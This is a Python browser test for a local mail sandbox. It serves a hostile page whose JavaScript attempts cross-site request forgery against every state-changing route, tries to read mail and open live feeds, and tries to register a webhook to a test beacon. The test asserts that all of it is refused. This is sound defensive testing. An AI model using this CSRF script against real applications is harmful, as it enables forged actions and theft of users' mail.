"""Issue 14 in a real browser: an attacker page on another loopback port drives the sandbox.

The page (served by its own little HTTP server) tries every state-changing route of the app,
the GETs that read or mark mail, and the live feeds, the ways a web page can: ``fetch`` with
``mode: "no-cors"`` (text/plain, urlencoded and multipart bodies), CORS ``fetch`` for the other
methods, plain ``<form method=post>`` (urlencoded and text/plain), ``<img>``, ``WebSocket`` and
``EventSource``. Everything must be refused: no table of the database changes, nothing is
posted to the attacker's webhook, no feed opens. A control run with the attacker's origin
allowed (``--allow-origin``) shows the same page does change the sandbox when permitted.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from fastapi.routing import iter_route_contexts
from playwright.sync_api import Browser, Page

from mailsandbox.emulators.common.routing import root_specs
from mailsandbox.runner import RunningSandbox
from tests.state import changed_tables, settled_message, snapshot
from tests.web.conftest import Beacon

pytestmark = pytest.mark.browser

Factory = Callable[..., RunningSandbox]
SAMPLES = {"domain": "mg.example.com", "table": "bounces", "list_name": "bounces",
           "email": "ann@example.com", "address": "ann@example.com", "name": "delivered",
           "tag": "x", "path": "app.css"}  # fmt: skip
_PARAM = re.compile(r"{([a-zA-Z_]\w*)(?::\w+)?}")
# GETs that read mail or mark it read, and the server-sent feeds
READS = ["/api/v1/message/latest", "/api/v1/message/{message_id}", "/api/v1/messages",
         "/view/latest.html", "/view/{message_id}.html", "/view/{message_id}.txt",
         "/api/v1/message/{message_id}/raw", "/api/v1/search?query=code",
         "/v3/mg.example.com/events", "/v5/accounts/http_signing_key"]  # fmt: skip
FEEDS = ["/api/v1/stream", "/ui/events"]

ATTACK_JS = """
const T = %(targets)s;
const base = %(base)s;
const report = {sent: 0, wsOpened: false, sseMessages: 0, read: []};
const settle = (p) => p.then(() => {}, () => {});
function form(method, url, fields, enctype) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random().toString(36).slice(2);
    frame.onload = () => resolve();
    document.body.appendChild(frame);
    const f = document.createElement("form");
    f.method = method; f.action = url; f.target = frame.name; f.enctype = enctype;
    for (const [k, v] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = k; input.value = typeof v === "string" ? v : JSON.stringify(v);
      f.appendChild(input);
    }
    document.body.appendChild(f);
    f.submit();
  });
}
async function attack() {
  const jobs = [];
  for (const [method, path] of T.routes) {
    const url = base + path;
    const json = JSON.stringify(T.body);
    if (method === "POST") {
      const params = new URLSearchParams();
      const multipart = new FormData();
      for (const [k, v] of Object.entries(T.fields)) {
        params.append(k, v);
        multipart.append(k, v);
      }
      for (const body of [json, params, multipart]) {
        jobs.push(settle(fetch(url, {method, mode: "no-cors", body, credentials: "include"})));
      }
      jobs.push(form("post", url, T.fields, "application/x-www-form-urlencoded"));
      jobs.push(form("post", url, {[json]: ""}, "text/plain"));
    } else {
      jobs.push(settle(fetch(url, {method, mode: "cors", body: json, credentials: "include",
                                   headers: {"Content-Type": "application/json"}})));
    }
    report.sent += 1;
  }
  for (const path of T.reads) {
    const url = base + path;
    jobs.push(fetch(url, {mode: "no-cors", credentials: "include"})
      .then((r) => r.text()).then((t) => { if (t) report.read.push(path); }, () => {}));
    jobs.push(fetch(url)
      .then((r) => r.text()).then((t) => report.read.push(path + " " + t.slice(0, 40)), () => {}));
    jobs.push(new Promise((resolve) => {
      const img = new Image(); img.onload = img.onerror = () => resolve(); img.src = url;
    }));
  }
  jobs.push(new Promise((resolve) => {
    const ws = new WebSocket(base.replace("http", "ws") + "/api/events");
    ws.onopen = () => { report.wsOpened = true; ws.close(); };
    ws.onmessage = () => { report.wsOpened = true; };
    ws.onclose = () => resolve();
  }));
  for (const path of T.feeds) {
    jobs.push(new Promise((resolve) => {
      const source = new EventSource(base + path);
      source.onmessage = () => { report.sseMessages += 1; };
      source.addEventListener("stats", () => { report.sseMessages += 1; });
      source.onopen = () => { report.sseMessages += 1; source.close(); resolve(); };
      source.onerror = () => { if (source.readyState === EventSource.CLOSED) resolve(); };
    }));
  }
  await Promise.all(jobs);
  window.report = report;
}
attack();
"""


def sample(template: str, message_id: str) -> str:
    values = {**SAMPLES, "message_id": message_id}
    return _PARAM.sub(lambda m: values.get(m.group(1), "x1"), template)


def state_changing_routes(running: RunningSandbox, message_id: str) -> list[tuple[str, str]]:
    """Every route of the app with a method other than GET/HEAD, as a concrete path."""
    routes = set()
    found = [(m, c.path) for c in iter_route_contexts(running.app.routes) for m in c.methods or ()]
    for method, path in [*found, *root_specs(running.app)]:  # (Postmark's, Resend's at the root)
        if method not in ("GET", "HEAD") and path:
            routes.add((method, sample(path, message_id)))
    return sorted(routes)


class AttackerSite:
    """An HTTP server on its own loopback port serving the attacker's page."""

    def __init__(self) -> None:
        self.page = b""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(site.page)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    def serve(self, script: str) -> None:
        self.page = f"<!doctype html><title>cats</title><body><script>{script}</script>".encode()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[AttackerSite]:
    site = AttackerSite()
    yield site
    site.close()


def run_attack(
    page: Page,
    attacker: AttackerSite,
    running: RunningSandbox,
    target: str,
    beacon: Beacon,
    message_id: str,
) -> dict[str, Any]:
    targets = {
        "routes": state_changing_routes(running, message_id),
        "reads": [sample(path, message_id) for path in READS],
        "feeds": FEEDS,
        "body": {"url": beacon.url + "/hook", "id": "delivered", "email": "ann@example.com",
                 "recipient_emails": ["ann@example.com"], "IDs": [message_id], "Read": True},
        "fields": {"url": beacon.url + "/hook", "id": "delivered", "address": "ann@example.com",
                   "from": "ceo@example.com", "to": "ann@example.com", "subject": "spoofed",
                   "text": "x", "q": "code", "stage": "rcpt", "outcome": "bounced"},
    }  # fmt: skip
    assert len(targets["routes"]) > 50  # the whole surface, not a sample
    attacker.serve(ATTACK_JS % {"targets": json.dumps(targets), "base": json.dumps(target)})
    page.goto(f"http://127.0.0.1:{attacker.port}/")
    page.wait_for_function("window.report !== undefined", timeout=60_000)
    report: dict[str, Any] = page.evaluate("window.report")
    assert report["sent"] == len(targets["routes"])
    return report


@pytest.mark.parametrize("site", ["same-site", "cross-site"])
def test_an_attacker_page_changes_and_reads_nothing(
    browser: Browser, sandbox_factory: Factory, attacker: AttackerSite, beacon: Beacon, site: str
) -> None:
    running = sandbox_factory()
    # same-site: another port of 127.0.0.1; cross-site: the sandbox reached as localhost
    target = running.url if site == "same-site" else f"http://localhost:{running.http_port}"
    context = browser.new_context()
    try:
        page = context.new_page()
        message_id = settled_message(running)
        before = snapshot(running)
        report = run_attack(page, attacker, running, target, beacon, message_id)
    finally:
        context.close()
    assert changed_tables(before, snapshot(running)) == []
    assert beacon.hits == []  # no webhook registered, no webhook test posted to the attacker
    assert report["wsOpened"] is False and report["sseMessages"] == 0
    assert report["read"] == []  # no response body reached the page
    with httpx.Client(base_url=running.url) as api:
        assert api.get(f"/api/v1/message/{message_id}").status_code == 200  # still there


def test_the_same_page_does_change_an_unprotected_sandbox(
    browser: Browser, sandbox_factory: Factory, attacker: AttackerSite, beacon: Beacon
) -> None:
    """Control: with the attacker's origin allowed, the attack works, so the test above would
    see a change if the guards let one through."""
    running = sandbox_factory(allow_origin=[f"http://127.0.0.1:{attacker.port}"])
    context = browser.new_context()
    try:
        page = context.new_page()
        message_id = settled_message(running)
        before = snapshot(running)
        report = run_attack(page, attacker, running, running.url, beacon, message_id)
    finally:
        context.close()
    changed = changed_tables(before, snapshot(running))
    assert "messages" in changed and "webhook_endpoints" in changed, changed
    assert report["wsOpened"] is True and report["read"] != []
